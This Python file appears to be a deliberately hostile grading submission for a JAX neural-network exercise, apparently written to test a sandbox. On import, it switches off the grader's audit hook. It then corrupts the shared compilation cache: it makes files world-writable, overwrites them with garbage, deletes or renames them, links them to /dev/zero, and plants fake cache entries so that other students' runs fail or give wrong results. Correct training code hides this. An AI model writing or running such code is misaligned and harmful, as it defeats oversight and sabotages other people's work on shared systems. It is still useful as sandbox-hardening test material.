"""hostile: full: overwrites the library programs that sandboxes read, to break the next init_params

The folder of compiled library programs (jax_compilation_cache_dir in the sandbox) is
shared by every grading on the machine. This submission switches the audit hook off and
tries every way to change it: the folder and its files made writable for everyone (for a
local accomplice to poison later: this worked under Landlock as an ordinary user, whose
sandbox could chmod the files it owns), their times reset, garbage written over each
program, files renamed, removed, replaced by links and new ones added, so that the next
student's random draws crash or come out wrong. Its own functions are correct: it must get
full marks and change nothing.
"""

import gc
import os
import sys

import jax
import jax.numpy as jnp
from jax import lax

SCALE = 0.1
STEP_SIZE = 0.1
EPOCHS = 500


def switch_off_the_hook():
    guard = getattr(sys.modules.get("__main__"), "Guard", None)
    if guard is not None:
        guard.__call__ = lambda self, event, args: None


def library_folders():
    """jax_compilation_cache_dir, and .cache/library-xla in every folder the hook names."""
    found = {str(jax.config.jax_compilation_cache_dir or "")}
    for thing in gc.get_objects():
        if type(thing).__name__ == "Guard":
            for entry in (p for name in ("allowed", "private", "blocked") for p in getattr(thing, name, [])):
                found.add(os.path.join(entry, ".cache", "library-xla"))
    return [f for f in found if f and os.path.isdir(f)]


def poison(folder):
    for attempt in (lambda: os.chmod(folder, 0o777), lambda: os.utime(folder, (0, 0))):
        try:
            attempt()
        except OSError:
            pass
    try:
        names = os.listdir(folder)
    except OSError:
        return
    for name in names:
        path = os.path.join(folder, name)
        for attempt in (
            lambda: open(path, "r+b").write(b"\0" * 64),
            lambda: open(path, "ab").write(b"garbage"),
            lambda: os.chmod(path, 0o666),
            lambda: os.utime(path, (0, 0)),
            lambda: os.rename(path, path + ".moved"),
            lambda: os.unlink(path),
            lambda: os.symlink("/dev/zero", path),
        ):
            try:
                attempt()
            except OSError:
                pass
    for name in ("jit__normal-0000-cache", "built-with-jax-0"):
        try:
            with open(os.path.join(folder, name), "wb") as file:
                file.write(b"garbage")
        except OSError:
            pass


switch_off_the_hook()
for _folder in library_folders():
    poison(_folder)


def relu(x):
    return jnp.maximum(x, 0.0)


def init_params(key, input_dims=2, n_hidden=16, output_dims=1, scale=SCALE):
    k_w1, k_b1, k_w2, k_b2 = jax.random.split(key, 4)
    return {
        "w1": scale * jax.random.normal(k_w1, (n_hidden, input_dims)),
        "b1": scale * jax.random.normal(k_b1, (n_hidden,)),
        "w2": scale * jax.random.normal(k_w2, (output_dims, n_hidden)),
        "b2": scale * jax.random.normal(k_b2, (output_dims,)),
    }


def predict(params, x):
    return params["w2"] @ relu(params["w1"] @ x + params["b1"]) + params["b2"]


def batched_predict(params, X):
    return jax.vmap(predict, in_axes=(None, 0))(params, X)


def loss(params, x, y):
    return jnp.mean((predict(params, x) - y) ** 2)


def update(params, x, y, step_size=STEP_SIZE):
    grads = jax.grad(loss)(params, x, y)
    return jax.tree.map(lambda p, g: p - step_size * g, params, grads)


def train(params, X, Y, epochs=EPOCHS, step_size=STEP_SIZE):
    def row(params, xy):
        return update(params, xy[0], xy[1], step_size), None

    def epoch(params, _):
        params, _ = lax.scan(row, params, (X, Y))
        return params, jnp.mean(jax.vmap(loss, in_axes=(None, 0, 0))(params, X, Y))

    return lax.scan(epoch, params, None, length=epochs)
